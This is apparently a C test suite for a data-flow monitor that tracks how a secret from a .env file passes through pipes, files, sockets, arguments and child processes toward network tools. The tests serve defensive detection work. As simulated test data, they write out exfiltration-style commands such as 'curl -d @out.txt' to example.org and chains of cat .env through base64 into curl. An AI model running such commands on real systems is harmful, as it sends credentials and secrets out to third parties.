/* SPDX-License-Identifier: MPL-2.0 */
/* Ways that a secret takes: from program to program, through pipes, files, sockets, arguments. */
#include "test_flow.h"

static const struct grith_stream none;

Test(flow, through_a_pipe_into_a_program_that_sends)
{
	WORLD(w);

	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec(&w, 12, SHELL, "/bin/cat", none, pipe_of(77));
	exec(&w, 13, SHELL, "/usr/bin/curl", pipe_of(77), none);
	expect_none(&w, 13);
	read_secret(&w, 12, SHELL);
	expect_way(&w, 12, ".env -> cat[12]");
	expect_way(&w, 13, ".env -> cat[12] -> pipe -> curl[13]");
	/* the shell has closed its ends */
	expect_none(&w, SHELL);
}

Test(flow, the_reader_of_a_pipe_may_start_after_the_secret_was_read)
{
	WORLD(w);
	struct flow_chain chain;

	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec(&w, 12, SHELL, "/bin/cat", none, pipe_of(77));
	read_secret(&w, 12, SHELL);
	end(&w, 12, SHELL);
	exec(&w, 13, SHELL, "/usr/bin/base64", pipe_of(77), pipe_of(78));
	exec(&w, 14, SHELL, "/usr/bin/curl", pipe_of(78), none);
	expect_way(&w, 14, ".env -> cat[12] -> pipe -> base64[13] -> pipe -> curl[14]");
	cr_assert_eq(ask(&w, 14, &chain), FLOW_KNOWN);
	cr_expect(chain.direct);
	cr_expect_eq(chain.source, GRITH_SOURCE_MEDIUM);
	cr_expect_eq(chain.since, 1003 * SECOND);
	cr_expect_eq(chain.n_steps, 5);
	cr_expect_str_eq(chain.steps[1].object, "pipe:[77]");
}

Test(flow, tee_to_a_file_whose_name_is_then_an_argument)
{
	static const char argv[] = "curl\0-d\0@out.txt\0http://example.org";
	WORLD(w);

	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec(&w, 12, SHELL, "/bin/cat", none, pipe_of(77));
	exec(&w, 13, SHELL, "/usr/bin/tee", pipe_of(77), none);
	write_file(&w, 13, SHELL, "/p/out.txt", 6); /* before there is something to write */
	read_secret(&w, 12, SHELL);
	end(&w, 12, SHELL);
	end(&w, 13, SHELL);
	exec_argv(&w, 14, SHELL, "/usr/bin/curl", none, none, argv, sizeof(argv));
	expect_way(&w, 14, ".env -> cat[12] -> pipe -> tee[13] -> out.txt -> curl[14]");
	exec_argv(&w, 15, SHELL, "/usr/bin/curl", none, none, "curl\0-d\0@in.txt", 16);
	expect_none(&w, 15);
}

Test(flow, a_shell_command_line_names_a_file)
{
	static const char argv[] = "sh\0-c\0curl -d '@/p/copy' example.org | cat";
	WORLD(w);

	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec_plain(&w, 12, SHELL, "/bin/cp");
	read_secret(&w, 12, SHELL);
	write_file(&w, 12, SHELL, "/p/copy", 6);
	exec_argv(&w, 13, SHELL, "/bin/sh", none, none, argv, sizeof(argv));
	expect_way(&w, 13, ".env -> cp[12] -> copy -> sh[13]");
}

Test(flow, redirections_are_known_by_what_lies_behind_the_descriptors)
{
	WORLD(w);

	exec_plain(&w, SHELL, 1, "/bin/bash");
	/* cat .env > out: the shell's child opens it, and then becomes cat */
	write_file(&w, 12, SHELL, "/p/out", 6);
	exec(&w, 12, SHELL, "/bin/cat", none, file_of(6));
	read_secret(&w, 12, SHELL);
	end(&w, 12, SHELL);
	/* curl < out */
	exec(&w, 13, SHELL, "/usr/bin/curl", file_of(6), none);
	expect_way(&w, 13, ".env -> cat[12] -> out -> curl[13]");
	/* curl < .env, which was opened by what is curl now */
	exec(&w, 14, SHELL, "/usr/bin/curl", file_of(5), none);
	expect_way(&w, 14, ".env -> curl[14]");
}

Test(flow, arguments_and_environment_come_from_the_parent)
{
	WORLD(w);
	struct flow_chain chain;

	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec_plain(&w, 12, SHELL, "/usr/bin/python3");
	read_secret(&w, 12, SHELL);
	exec_argv(&w, 13, 12, "/usr/bin/curl", none, none, "curl\0-d\0hunter2", 15);
	expect_way(&w, 13, ".env -> python3[12] -> curl[13]");
	cr_assert_eq(ask(&w, 13, &chain), FLOW_KNOWN);
	cr_expect_not(chain.direct);
	/* another child of the shell has nothing to do with it */
	exec_plain(&w, 14, SHELL, "/usr/bin/curl");
	expect_none(&w, 14);
}

Test(flow, what_is_printed_to_the_one_who_asked)
{
	WORLD(w);

	/* X=$(cat .env); the reading end is the shell's own */
	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec(&w, 12, SHELL, "/bin/cat", none, pipe_of(77));
	read_secret(&w, 12, SHELL);
	end(&w, 12, SHELL);
	expect_way(&w, SHELL, ".env -> cat[12] -> pipe -> bash[10]");
	exec_plain(&w, 13, SHELL, "/usr/bin/curl");
	expect_way(&w, 13, ".env -> cat[12] -> pipe -> bash[10] -> curl[13]");
	/* and in its place */
	exec_plain(&w, SHELL, 1, "/usr/bin/wget");
	expect_way(&w, SHELL, ".env -> cat[12] -> pipe -> bash[10] -> wget[10]");
}

Test(flow, what_a_forked_child_prints_for_its_parent)
{
	WORLD(w);

	/* X=$(<.env): the child is the shell itself */
	exec_plain(&w, SHELL, 1, "/bin/bash");
	read_secret(&w, 12, SHELL);
	expect_none(&w, SHELL);
	end(&w, 12, SHELL);
	expect_way(&w, SHELL, ".env -> bash[12] -> bash[10]");
}

Test(flow, what_is_fed_to_a_program_that_runs_already)
{
	WORLD(w);

	exec_plain(&w, 12, 1, "/usr/bin/node");
	exec(&w, 13, 12, "/usr/bin/curl", pipe_of(77), none);
	read_secret(&w, 12, 1);
	expect_way(&w, 13, ".env -> node[12] -> pipe -> curl[13]");
}

Test(flow, a_pair_of_sockets_is_a_pipe)
{
	const struct grith_stream pair = { .inode = 9, .device = 7, .type = S_IFSOCK };
	WORLD(w);

	exec_plain(&w, 12, 1, "/usr/bin/node");
	exec(&w, 13, 12, "/bin/cat", none, pair);
	read_secret(&w, 13, 12);
	expect_way(&w, 12, ".env -> cat[13] -> socket -> node[12]");
}

Test(flow, a_unix_socket_is_between_who_binds_and_who_connects)
{
	WORLD(w);

	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec_plain(&w, 12, SHELL, "/usr/bin/server");
	use(&w, GRITH_OP_BIND, 12, SHELL, "/p/socket", 0, 0, GRITH_RECORD_UNIX);
	exec_plain(&w, 13, SHELL, "/usr/bin/python3");
	read_secret(&w, 13, SHELL);
	use(&w, GRITH_OP_CONNECT, 13, SHELL, "/p/socket", 44, 0, GRITH_RECORD_UNIX);
	expect_way(&w, 12, ".env -> python3[13] -> socket -> server[12]");
	/* and who connects later */
	exec_plain(&w, 14, SHELL, "/usr/bin/client");
	use(&w, GRITH_OP_CONNECT, 14, SHELL, "/p/socket", 44, 0, GRITH_RECORD_UNIX);
	expect_way(&w, 14, ".env -> python3[13] -> socket -> client[14]");
}

Test(flow, another_name_is_the_same_file)
{
	WORLD(w);
	struct record record;

	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec_plain(&w, 12, SHELL, "/bin/ln");
	record = record_of(&w, GRITH_KIND_PATH, GRITH_OP_LINK, 12, SHELL);
	record.path = (struct record_bytes) { "/p/.env", 7 };
	record.second = (struct record_bytes) { "/p/x", 4 };
	record.inode = 5;
	record.device = 8;
	record.head.labels = MEDIUM;
	flow_note(w.flow, &record, (struct record_bytes) { 0 }, NULL);
	expect_none(&w, 12); /* it has not read it */
	exec_plain(&w, 13, SHELL, "/bin/cat");
	read_file(&w, 13, SHELL, "/p/x", 5);
	expect_way(&w, 13, ".env -> ln[12] -> x -> cat[13]");
}

Test(flow, what_was_refused_or_waits_has_not_happened)
{
	WORLD(w);
	struct record record;

	exec_plain(&w, SHELL, 1, "/bin/bash");
	record = record_of(&w, GRITH_KIND_PATH, GRITH_OP_READ, SHELL, 1);
	record.path = (struct record_bytes) { "/p/.env", 7 };
	record.head.labels = MEDIUM;
	record.head.verdict = GRITH_DENY;
	record.head.error = -EACCES;
	flow_note(w.flow, &record, (struct record_bytes) { 0 }, NULL);
	expect_none(&w, SHELL);
	record.head.verdict = GRITH_HOLD;
	record.head.error = 0;
	record.head.flags = GRITH_RECORD_HELD;
	flow_note(w.flow, &record, (struct record_bytes) { 0 }, NULL);
	expect_none(&w, SHELL);
	/* but what was only observed has */
	record.head.flags = GRITH_RECORD_OBSERVED;
	flow_note(w.flow, &record, (struct record_bytes) { 0 }, NULL);
	expect_way(&w, SHELL, ".env -> bash[10]");
}

Test(flow, devices_hand_nothing_on)
{
	WORLD(w);

	exec_plain(&w, SHELL, 1, "/bin/bash");
	exec_plain(&w, 12, SHELL, "/bin/cat");
	read_secret(&w, 12, SHELL);
	write_file(&w, 12, SHELL, "/dev/null", 4);
	exec_plain(&w, 13, SHELL, "/usr/bin/curl");
	read_file(&w, 13, SHELL, "/dev/null", 4);
	expect_none(&w, 13);
}
